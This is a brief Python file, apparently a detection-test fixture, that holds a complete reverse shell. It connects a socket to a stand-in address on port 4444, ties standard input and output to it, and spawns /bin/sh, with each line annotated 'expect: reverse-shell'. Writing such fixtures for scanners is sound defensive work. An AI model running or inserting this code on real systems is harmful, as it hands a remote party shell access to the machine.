import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.23", 4444))  # expect: reverse-shell
os.dup2(s.fileno(), 0)  # expect: reverse-shell
os.dup2(s.fileno(), 1)  # expect: reverse-shell
pty.spawn("/bin/sh")  # expect: reverse-shell
